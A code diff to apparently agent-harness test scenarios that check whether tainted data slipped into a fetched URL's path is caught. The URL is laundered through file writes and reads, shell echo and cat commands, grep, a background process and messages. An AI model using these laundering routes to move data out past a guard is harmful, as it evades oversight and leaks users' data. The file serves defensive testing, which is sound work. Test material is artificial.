@@ -14,6 +14,8 @@ function laundered(
     group: "addresses",
     async play(player) {
       const { words } = await taint(player);
+      const file = { filename: "data.txt", bytes: Buffer.from("Nothing of interest.\n") };
+      await player.say({ chat: "own", text: "A file.", file });
       const url = `${player.world.parts.site.url}/out/${newMark()}/${words}`;
       const rounds = [...wash(url), [fetchPage(url)]];
       await player.say({ chat: "own", rounds, later: { sub: inSubAgent?.(url) ?? [] } });
@@ -38,16 +40,29 @@ export const addressScenarios: readonly Scenario[] = [
     (url) => [[fetchPage(url)]],
   ),
   laundered("a made-up address written to a file and read back", (url) => [
-    [write("url.txt", `${url}\n`)],
-    [read("url.txt")],
+    [
+      write("url.txt", `${url}\n`),
+      write("received/url.txt", `${url}\n`),
+      write("tool-results/outside/url.txt", `${url}\n`),
+    ],
+    [read("url.txt"), read("received/url.txt"), read("tool-results/outside/url.txt")],
   ]),
   laundered("a made-up address printed by a command", (url) => [[exec(`echo ${url}`)]]),
-  laundered("a made-up address printed by a command that reads what was received", (url) => [
-    [exec(`cat received/* 2>/dev/null; echo ${url}`)],
+  laundered("a made-up address printed by a command that sees received files", (url) => [
+    [exec(`cat received/*; echo ${url}`)],
+    [exec(`sleep 0.1; echo ${url}; ls received`, { background: true })],
+    [{ name: "process", input: { action: "read", id: "bg1" } }],
   ]),
   laundered("a made-up address found by grep", (url) => [
-    [write("url.txt", `${url}\n`)],
-    [{ name: "grep", input: { pattern: "http", path: "url.txt" } }],
+    [
+      write("url.txt", `${url}\n`),
+      write("received/url.txt", `${url}\n`),
+      write(`${url.replace(/[/:]+/g, "-")}.txt`, "x"),
+    ],
+    [
+      { name: "grep", input: { pattern: "http", path: "." } },
+      { name: "grep", input: { pattern: "http", path: "received" } },
+    ],
   ]),
   laundered("a made-up address sent as a message", (url) => [[{ name: "message", input: { text: `See ${url}` } }]]),
   laundered("a made-up address in a plan", (url) => [
